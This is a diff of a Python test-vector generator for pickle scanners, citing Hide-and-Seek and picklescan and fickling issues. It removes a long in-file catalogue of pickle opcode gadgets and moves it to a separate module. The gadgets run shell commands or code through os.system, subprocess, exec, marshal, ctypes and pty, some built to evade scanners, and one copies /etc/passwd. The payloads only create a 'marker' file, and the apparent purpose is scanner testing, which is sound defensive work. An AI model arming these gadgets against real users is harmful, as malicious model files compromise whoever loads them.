@@ -2,8 +2,7 @@
 
 Each creates a file `marker` in the current folder and does nothing else. The catalogues are:
 
-- gadget: functions of the standard library and NumPy that run code, run commands or write files, as in Hide-and-Seek
-  (arXiv 2508.19774) and the advisories of picklescan
+- gadget: functions that run code, run commands or write files: see `gadgets.py`
 - stream: instructions that hide what they call from a scanner, from the issues of picklescan and fickling
 - exception: files that execute something and then end in an error (Hide-and-Seek: exception-oriented programming)
 - path: the ways by which NumPy, joblib, pandas and PyTorch come to unpickle a file (Hide-and-Seek: loading paths)
@@ -15,166 +14,14 @@ import bz2
 import gzip
 import io
 import lzma
-import marshal
 import pickle
 import struct
 import zipfile
 import zlib
 
 import containers
-
-COMMAND = "echo > marker"
-CODE = "open('marker', 'w').close()"
-SHELL = ["sh", "-c", COMMAND]
-
-STOP = b"."
-
-
-def data(value):
-    """Returns the instructions that push a plain value."""
-    return pickle.dumps(value, 2)[2:-1]
-
-
-def name(module, attribute):
-    return data(module) + data(attribute) + b"\x93"
-
-
-def call(function, *arguments):
-    """Returns the instructions of a call. Functions are instructions or `module:name`; arguments instructions or values."""
-    parts = [argument if isinstance(argument, bytes) else data(argument) for argument in arguments]
-    return named(function) + b"(" + b"".join(parts) + b"tR"
-
-
-def named(function):
-    return name(*function.split(":")) if isinstance(function, str) else function
-
-
-def whole(instructions, protocol=4):
-    return b"\x80" + bytes([protocol]) + instructions + STOP
-
-
-def bytes_of(value):
-    """Returns the instructions that push bytes; `data` would call an encoder."""
-    return b"B" + struct.pack("<I", len(value)) + value
-
-
-def import_os():
-    return call("importlib:import_module", "os")
-
-
-def gadgets():
-    """Yields a name and the instructions."""
-    code = marshal.dumps(compile(CODE, "", "exec"))
-    inner = whole(call("os:system", COMMAND))
-    formatter = {"version": 1, "formatters": {"f": {"()": "os.system", "command": COMMAND}}}
-    yield "builtins.eval", call("builtins:eval", CODE)
-    yield "builtins.exec", call("builtins:exec", CODE)
-    yield "builtins.compile", call("builtins:exec", call("builtins:compile", CODE, "", "exec"))
-    yield "builtins.open", call("builtins:open", "marker", "w")
-    yield "builtins.__import__", call(call("builtins:getattr", call("builtins:__import__", "os"), "system"), COMMAND)
-    yield "builtins.map", call("builtins:list", call("builtins:map", named("os:system"), [COMMAND]))
-    yield "builtins.filter", call("builtins:next", call("builtins:filter", named("os:mkdir"), ["marker"]), None)
-    yield "os.system", call("os:system", COMMAND)
-    yield "posix.system", call("posix:system", COMMAND)
-    yield "os.popen", call("os:popen", COMMAND)
-    yield "os.spawnvp", call("os:spawnvp", 0, "sh", SHELL)
-    yield "os.posix_spawnp", call("os:posix_spawnp", "sh", SHELL, {})
-    yield "os.execvp", call("os:execvp", "sh", SHELL)
-    yield "os.mkdir", call("os:mkdir", "marker")
-    yield "os.open", call("os:open", "marker", 0o101)
-    yield "subprocess.Popen", call("subprocess:Popen", SHELL)
-    for function in ("run", "call", "check_call", "check_output"):
-        yield "subprocess." + function, call("subprocess:" + function, SHELL)
-    yield "subprocess.getoutput", call("subprocess:getoutput", COMMAND)
-    yield "pty.spawn", call("pty:spawn", SHELL)
-    yield "runpy._run_code", call("runpy:_run_code", CODE, {})
-    yield "timeit.timeit", call("timeit:timeit", "pass", CODE)
-    yield "timeit.repeat", call("timeit:repeat", "pass", CODE)
-    yield "cProfile.run", call("cProfile:run", CODE)
-    yield "profile.run", call("profile:run", CODE)
-    yield "trace.Trace.run", call("trace:Trace.run", call("trace:Trace"), CODE)
-    yield "bdb.Bdb.run", call("bdb:Bdb.run", call("bdb:Bdb"), CODE)
-    yield "pdb.run", call("pdb:run", CODE)
-    yield "code.InteractiveInterpreter.runcode", call(
-        "code:InteractiveInterpreter.runcode", call("code:InteractiveInterpreter"), CODE
-    )
-    yield "code.interact", call("code:InteractiveConsole.push", call("code:InteractiveConsole"), CODE)
-    yield "pydoc.pipepager", call("pydoc:pipepager", "", COMMAND)
-    yield "pydoc.locate", call(call("pydoc:locate", "os.system"), COMMAND)
-    yield "pkgutil.resolve_name", call(call("pkgutil:resolve_name", "os:system"), COMMAND)
-    yield "importlib.import_module", call(call("builtins:getattr", import_os(), "system"), COMMAND)
-    yield "operator.attrgetter", call(call(call("operator:attrgetter", "system"), import_os()), COMMAND)
-    yield "operator.methodcaller", call(call("operator:methodcaller", "system", COMMAND), import_os())
-    yield "operator.call", call("operator:call", named("os:system"), COMMAND)
-    yield "functools.partial", call(call("functools:partial", named("os:system"), COMMAND))
-    yield "functools.reduce", call(
-        call("functools:reduce", named("builtins:getattr"), b"(" + import_os() + data("system") + b"t"), COMMAND
-    )
-    yield "types.FunctionType", call(
-        call("types:FunctionType", call("marshal:loads", bytes_of(code)), call("builtins:globals"))
-    )
-    yield "numpy.ndarray.tofile", call("numpy:ndarray.tofile", call("numpy:array", [1]), "marker")
-    yield "pandas.io.common.get_handle", call("pandas.io.common:get_handle", "marker", "w")
-    yield "os.makedirs", call("os:makedirs", "marker")
-    yield "shelve.open", call("shelve:open", "marker")
-    yield "tempfile.mkdtemp", call("tempfile:mkdtemp", "", "marker", ".")
-    yield "itertools.starmap", call("builtins:list", call("itertools:starmap", named("os:system"), [(COMMAND,)]))
-    yield "marshal.loads", call("builtins:exec", call("marshal:loads", bytes_of(code)))
-    yield "pickle.loads", call("pickle:loads", bytes_of(inner))
-    yield "_pickle.loads", call("_pickle:loads", bytes_of(inner))
-    yield "pickle._loads", call("pickle:_loads", bytes_of(inner))
-    yield "multiprocessing.reduction", call("multiprocessing.reduction:ForkingPickler.loads", bytes_of(inner))
-    yield "numpy.testing.runstring", call("numpy.testing._private.utils:runstring", CODE, {})
-    yield "numpy.f2py.crackfortran.myeval", call("numpy.f2py.crackfortran:myeval", CODE, {}, {})
-    yield "numpy.f2py.crackfortran.getlincoef", call("numpy.f2py.crackfortran:getlincoef", CODE, {})
-    yield "numpy.memmap", call("numpy:memmap", "marker", "uint8", "w+", 0, (1,))
-    yield "numpy.savetxt", call("numpy:savetxt", "marker", [1.0])
-    yield "joblib.dump", call("joblib:dump", [1], "marker")
-    yield "distutils.file_util.write_file", call("distutils.file_util:write_file", "marker", ["x"])
-    yield "io.open", call("io:open", "marker", "w")
-    yield "_io.FileIO", call("_io:FileIO", "marker", "w")
-    yield "codecs.open", call("codecs:open", "marker", "w")
-    yield "pathlib.Path.touch", call("pathlib:Path.touch", call("pathlib:PosixPath", "marker"))
-    yield "pathlib.Path.write_text", call("pathlib:Path.write_text", call("pathlib:PosixPath", "marker"), "x")
-    yield "logging.FileHandler", call("logging:FileHandler", "marker")
-    yield "logging.config.dictConfig", call("logging.config:dictConfig", formatter)
-    yield "shutil.copyfile", call("shutil:copyfile", "/etc/passwd", "marker")
-    yield "shutil.copytree", call("shutil:copytree", "/etc/alternatives", "marker", True)
-    yield "zipfile.ZipFile", call("zipfile:ZipFile", "marker", "w")
-    yield "tarfile.open", call("tarfile:TarFile.open", "marker", "w")
-    yield "sqlite3.connect", call("sqlite3:connect", "marker")
-    yield "gzip.open", call("gzip:open", "marker", "w")
-    yield "bz2.open", call("bz2:BZ2File", "marker", "w")
-    yield "lzma.open", call("lzma:LZMAFile", "marker", "w")
-    yield "ctypes.CDLL", call(call("builtins:getattr", call("ctypes:CDLL", None), "system"), bytes_of(COMMAND.encode()))
-    yield "ctypes.pydll", call(call("ctypes:PyDLL.__getattr__", call("ctypes:PyDLL", None), "system"), bytes_of(COMMAND.encode()))
-    yield "uuid._get_command_stdout", call("uuid:_get_command_stdout", "sh", "-c", COMMAND)
-    yield "_osx_support._read_output", call("_osx_support:_read_output", COMMAND)
-    yield "_aix_support._read_cmd_output", call("_aix_support:_read_cmd_output", COMMAND)
-    yield "imaplib.IMAP4_stream", call("imaplib:IMAP4_stream", COMMAND)
-    yield "test.support.script_helper", call("test.support.script_helper:spawn_python", "-c", CODE)
-    yield "webbrowser.GenericBrowser.open", call(
-        "webbrowser:GenericBrowser.open", call("webbrowser:GenericBrowser", SHELL), "x"
-    )
-    yield "threading.Thread", call("threading:Thread.start", call("threading:Thread", None, named("os:system"), None, (COMMAND,)))
-    yield "threading.Timer", call("threading:Timer.run", call("threading:Timer", 0, named("os:system"), (COMMAND,)))
-    yield "atexit.register", call("atexit:register", named("os:system"), COMMAND)
-    yield "weakref.finalize", call("weakref:finalize", named("builtins:dict"), named("os:system"), COMMAND)
-    yield "concurrent.futures", call("concurrent.futures.thread:ThreadPoolExecutor.submit",
-                                     call("concurrent.futures.thread:ThreadPoolExecutor"), named("os:system"), COMMAND)
-    yield "xmlrpc.server.resolve_dotted_attribute", call(
-        call("xmlrpc.server:resolve_dotted_attribute", named("shutil:os"), "system"), COMMAND
-    )
-    yield "unittest.mock._importer", call(call("builtins:getattr", call("unittest.mock:_importer", "os"), "system"), COMMAND)
-    yield "multiprocessing.util.spawnv_passfds", call("multiprocessing.util:spawnv_passfds", bytes_of(b"/bin/sh"), SHELL, ())
-    yield "typing.ForwardRef", call("typing:ForwardRef._evaluate", call("typing:ForwardRef", CODE), {}, {}, call("builtins:frozenset"))
-    yield "lib2to3.pgen2.grammar.Grammar.loads", call(
-        "lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar"), bytes_of(inner)
-    )
-    yield "idlelib.calltip.get_entity", call("idlelib.calltip:get_entity", CODE)
-    yield "asyncio.run", call("asyncio.runners:run", call("asyncio.subprocess:create_subprocess_shell", COMMAND))
-    yield "doctest.script_from_examples", call("doctest:debug_script", CODE)
-    yield "pip.main", call("pip._internal.utils.subprocess:call_subprocess", SHELL)
+import gadgets
+from calls import CODE, COMMAND, SHELL, call, data, named, whole
 
 
 def streams():
@@ -287,8 +134,10 @@ def paths():
 
 
 def vectors():
-    for label, instructions in gadgets():
+    for label, instructions in gadgets.gadgets():
         yield label, "gadget", "pickle", "pkl", whole(instructions)
+    for label, content in gadgets.of_python_2():
+        yield label, "gadget", "pickle", "pkl", content
     for label, content in streams():
         yield label, "stream", "pickle", "pkl", content
     for label, content in exceptions():
